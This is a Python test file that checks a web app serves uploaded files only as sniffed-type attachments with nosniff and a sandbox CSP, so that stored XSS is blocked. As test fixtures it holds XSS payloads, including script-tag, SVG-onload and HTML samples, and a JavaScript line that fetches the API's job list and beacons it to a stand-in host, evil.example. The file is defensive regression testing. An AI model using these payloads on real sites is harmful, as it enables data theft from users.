"""Stored uploads are data, never pages: what GET .../items/<i> and the zip download send back.

A JPEG named holiday.html whose comment holds a <script>, and a notes.js, once came back inline
as text/html and JavaScript from the app's origin. Here every item response must be an
attachment, of a type read from the bytes (an image type or application/octet-stream), with
nosniff and a sandboxing CSP; a non-image that failed is not served at all.
"""

import io
import os
import zipfile

import pytest
from PIL import Image

from tests.matting_core.images import encode
from tests.web.test_api import error_of, post_job, small_jpeg, wait_done
from web import sniff

SCRIPT = b'<script src="1?variant=input"></script><html><body onload="alert(document.domain)">'
NOTES_JS = b"fetch('/api/v1/jobs').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))"
NEVER = ("text/html", "image/svg+xml", "application/xhtml+xml", "text/javascript", "application/javascript",
         "text/xml", "application/xml", "text/plain")


def jpeg_with_comment(comment: bytes) -> bytes:
    out = io.BytesIO()
    Image.open(io.BytesIO(small_jpeg())).save(out, "JPEG", comment=comment)
    return out.getvalue()


def assert_served_as_data(r, mimetype: str, filename: str) -> None:
    assert r.status_code == 200, r.get_data()[:200]
    assert r.mimetype == mimetype and r.mimetype not in NEVER
    assert r.headers["Content-Disposition"] == f"attachment; filename={filename}"
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in [d.strip().split(" ")[0] for d in r.headers["Content-Security-Policy"].split(";")]


# --- sniffing: the type comes from the bytes -------------------------------------------------------

SAMPLE = Image.new("RGB", (32, 24), (200, 30, 60))


@pytest.mark.parametrize(("fmt", "ext"), [("JPEG", "jpg"), ("PNG", "png"), ("GIF", "gif"), ("WEBP", "webp"),
                                          ("BMP", "bmp"), ("TIFF", "tif"), ("HEIF", "heic"), ("AVIF", "avif")])
def test_every_format_the_decoder_reads_is_sniffed_from_its_bytes(fmt, ext):
    head = encode(SAMPLE, fmt)[:sniff.SNIFF_BYTES]
    assert sniff.image_ext(head) == ext
    assert sniff.mimetype(ext).startswith("image/")


@pytest.mark.parametrize("data", [
    b"<!doctype html><script>alert(1)</script>", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>', NOTES_JS, b"BM but just text here",
    b"%PDF-1.7", b"", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom",
], ids=["html", "svg", "xhtml", "js", "text starting BM", "pdf", "empty", "mp4"])
def test_what_is_not_a_supported_image_sniffs_as_none(data):
    assert sniff.image_ext(data[:sniff.SNIFF_BYTES]) is None


def test_rewound_gives_back_the_whole_stream_of_an_unseekable_body():
    class Unseekable(io.RawIOBase):
        def __init__(self, data):
            self._data = io.BytesIO(data)

        def readinto(self, buffer):
            return self._data.readinto(buffer)

        def readable(self):
            return True

    data = jpeg_with_comment(SCRIPT)
    ext, stream = sniff.sniffed(Unseekable(data))
    assert ext == "jpg" and b"".join(iter(lambda: stream.read(1000), b"")) == data


def test_a_sniffed_file_is_rewound_to_its_descriptor_start_for_sendfile(tmp_path):
    # gunicorn's sendfile() starts where the descriptor points, not where Python's buffer does.
    path = tmp_path / "in"
    path.write_bytes(jpeg_with_comment(SCRIPT) + bytes(100_000))
    with open(path, "rb") as f:
        ext, stream = sniff.sniffed(f)
        assert ext == "jpg" and stream is f and os.lseek(f.fileno(), 0, os.SEEK_CUR) == 0


# --- through the API -----------------------------------------------------------------------------


def test_a_jpeg_named_html_with_a_script_comment_comes_back_as_a_jpeg_attachment(client, users):
    headers = users["alice"]["headers"]
    evil = jpeg_with_comment(SCRIPT)
    job = post_job(client, headers, ("holiday.html", evil)).get_json()["job_id"]
    r = client.get(f"/api/v1/jobs/{job}/items/0?variant=input", headers=headers)
    assert_served_as_data(r, "image/jpeg", "holiday.jpg")
    assert r.data == evil  # the bytes themselves are the user's, untouched


@pytest.mark.parametrize("name", ["notes.js", "page.svg", "x.xhtml", "a.html"])
def test_a_queued_non_image_comes_back_as_octet_stream_never_as_its_name_says(client, users, name):
    headers = users["alice"]["headers"]
    job = post_job(client, headers, (name, NOTES_JS)).get_json()["job_id"]
    r = client.get(f"/api/v1/jobs/{job}/items/0?variant=input", headers=headers)
    assert_served_as_data(r, "application/octet-stream", f"{name.rsplit('.', 1)[0]}.bin")


def test_an_upload_refused_on_arrival_is_not_served(app, client, users):
    app.config["MAX_FILE_BYTES"] = 1000
    headers = users["alice"]["headers"]
    job = post_job(client, headers, ("big.html", SCRIPT * 100)).get_json()["job_id"]
    r = client.get(f"/api/v1/jobs/{job}/items/0?variant=input", headers=headers)
    assert r.status_code == 404 and error_of(r)["code"] == "not_stored" and r.mimetype == "application/json"


def test_a_failed_non_image_is_not_served_and_outputs_are_their_own_type_and_name(client, users, workers):
    headers = users["alice"]["headers"]
    evil = jpeg_with_comment(SCRIPT)
    job = post_job(client, headers, ("holiday.html", evil), ("notes.js", NOTES_JS), format="webp").get_json()["job_id"]
    status = wait_done(client, headers, job)
    photo, notes = status["items"]
    assert (photo["state"], notes["state"]) == ("done", "failed")
    r = client.get(f"/api/v1/jobs/{job}/items/1?variant=input", headers=headers)
    assert r.status_code == 404 and r.mimetype == "application/json" and "notes.js" in error_of(r)["message"]
    assert_served_as_data(client.get(photo["output_url"], headers=headers), "image/webp", "holiday.webp")
    assert_served_as_data(client.get(photo["alpha_url"], headers=headers), "image/png", "holiday-alpha.png")
    assert_served_as_data(client.get(photo["input_url"], headers=headers), "image/jpeg", "holiday.jpg")
    download = client.get(status["download_url"], headers=headers)
    assert_served_as_data(download, "application/zip", f"cutout-{job}.zip")
    with zipfile.ZipFile(io.BytesIO(download.data)) as zf:
        assert "holiday.webp" in zf.namelist()  # the item's output name is the zip's


def test_a_failed_non_image_whose_upload_is_still_stored_is_not_served(app, client, users):
    headers = users["alice"]["headers"]
    job = post_job(client, headers, ("notes.js", NOTES_JS)).get_json()["job_id"]
    app.extensions["cutout"].jobs.update_item(job, 0, "failed", error="notes.js: not an image")
    r = client.get(f"/api/v1/jobs/{job}/items/0?variant=input", headers=headers)
    assert r.status_code == 404 and error_of(r)["code"] == "not_an_image" and "notes.js" in error_of(r)["message"]


def test_a_non_ascii_name_is_offered_safely_in_both_header_forms(client, users):
    headers = users["alice"]["headers"]
    job = post_job(client, headers, ('café "東京".png', small_jpeg())).get_json()["job_id"]
    r = client.get(f"/api/v1/jobs/{job}/items/0?variant=input", headers=headers)
    disposition = r.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "filename*=UTF-8''" in disposition
    assert '"' not in disposition.split("filename*=")[1] and "\\" not in disposition
